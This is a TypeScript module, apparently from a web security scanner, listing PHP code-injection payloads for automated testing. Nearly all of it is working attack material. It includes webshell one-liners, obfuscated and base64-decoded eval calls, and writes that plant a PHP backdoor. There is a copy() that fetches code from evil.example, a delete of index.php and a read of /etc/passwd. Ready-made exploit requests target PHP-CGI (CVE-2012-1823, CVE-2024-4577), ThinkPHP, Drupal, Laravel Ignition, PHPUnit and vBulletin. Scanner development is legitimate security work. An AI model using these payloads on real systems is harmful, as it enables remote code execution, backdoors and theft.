// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of PHP
import { getMessage, postMessage } from '../message.ts';
import { dataPlaces, loggedPlaces } from '../places.ts';
import type { TechniqueFamily } from '../technique.ts';

const FORM = 'application/x-www-form-urlencoded';

export const phpTechniques: TechniqueFamily = {
  about: 'code of PHP, a file that PHP reads, or a name that it calls',
  places: [...dataPlaces, ...loggedPlaces, 'file content'],
  fields: ['code', 'name', 'page', 'q', 'template', 'data'],
  techniques: {
    'opening tag': {
      does: 'Is a PHP program in tags, for a file or log that PHP reads',
      needs: 'PHP',
      values: () => [
        "<?php system('id'); ?>",
        '<?=`id`?>',
        "<?php eval($_POST['x']);?>",
        '<script language="php">passthru("id");</script>',
        '<? echo shell_exec($_GET["c"]); ?>',
        '<?php phpinfo();',
        '<?php echo file_get_contents("/etc/passwd"); ?>',
        '<?php $f=fopen("a.php","w");fwrite($f,$_REQUEST["b"]);',
        '<?=$_GET[0]($_GET[1]);',
      ],
    },
    call: {
      does: 'Calls a function that runs a command or code',
      needs: 'an application that evaluates the value',
      values: () => [
        "system('id')",
        ';phpinfo();',
        '${@system(id)}',
        '".system("id")."',
        "');phpinfo();//",
        '{${phpinfo()}}',
        'assert($_GET[0])',
        "call_user_func('system','id')",
        "array_map('passthru',['id'])",
        "print(shell_exec('whoami'))",
        "';exec('id');#",
        "preg_replace('/a/e','system(id)','a')",
        'die(md5(1))',
        'var_dump(scandir("."))',
        'popen("id","r")',
      ],
    },
    'computed function': {
      does: 'Calls a function whose name is put together or comes from the request',
      needs: 'PHP',
      values: () => [
        "$_GET['a']($_GET['b'])",
        "$f='sys'.'tem';$f('id');",
        '("sys"."tem")("id")',
        "${'_'.'GET'}[0](${'_'.'GET'}[1])",
        "$a=str_replace('x','','sxyxsxtxexm');$a('id');",
        "(chr(112).'hpinfo')();",
        "$GLOBALS['f']('id')",
        "('as'.'sert')($_POST[1]);",
      ],
    },
    'decoded code': {
      does: 'Decodes code and runs it',
      needs: 'PHP',
      values: () => [
        "eval(base64_decode('cGhwaW5mbygpOw=='))",
        "@eval(gzinflate(base64_decode($_POST['z'])));",
        "eval(str_rot13('cucvasb();'))",
        'assert(hex2bin("706870696e666f2829"))',
        "create_function('','phpinfo();')()",
        "eval(pack('H*','706870696e666f28293b'));",
      ],
    },
    'writing a file': {
      does: 'Writes a program to a file',
      needs: 'PHP',
      values: () => [
        "file_put_contents('q.php','<?php eval($_POST[1]);')",
        "fputs(fopen('q.php','w'),base64_decode('PD9waHA='))",
        "copy('http://evil.example/q.txt','q.php')",
        "unlink('index.php');",
        "rename('a.txt','a.php');",
      ],
    },
    'settings in the query': {
      does: 'Gives options to PHP in CGI mode (CVE-2012-1823, CVE-2024-4577)',
      needs: 'PHP in CGI mode',
      requests: () => [
        postMessage(
          '/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
          FORM,
          '<?php system("id");',
        ),
        postMessage(
          '/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
          FORM,
          "<?php echo shell_exec('whoami'); ?>",
        ),
        getMessage('/index.php?-s'),
        postMessage(
          '/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3dphp://input',
          FORM,
          '<?php phpinfo();',
        ),
      ],
    },
    'known products': {
      does: 'Calls a function through a known hole of a product',
      needs: 'ThinkPHP, Drupal, Laravel, PHPUnit, vBulletin, Joomla',
      requests: () => [
        getMessage(
          '/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
        ),
        getMessage(
          '/index.php?s=captcha&_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id',
        ),
        postMessage(
          '/user/register?element_parents=account/mail/%23value&ajax_form=1',
          FORM,
          'form_id=user_register_form&mail[%23post_render][]=exec&mail[%23type]=markup&mail[%23markup]=id',
        ),
        postMessage(
          '/_ignition/execute-solution',
          'application/json',
          '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log"}}',
        ),
        postMessage(
          '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
          'text/plain',
          '<?php echo md5("q");',
        ),
        postMessage(
          '/ajax/render/widget_tabbedcontainer_tab_panel',
          FORM,
          'subWidgets[0][template]=widget_php&subWidgets[0][config][code]=phpinfo();',
        ),
        postMessage(
          '/?routestring=ajax/render/widget_php',
          FORM,
          'widgetConfig[code]=echo%20shell_exec(%22id%22);exit;',
        ),
      ],
    },
  },
};
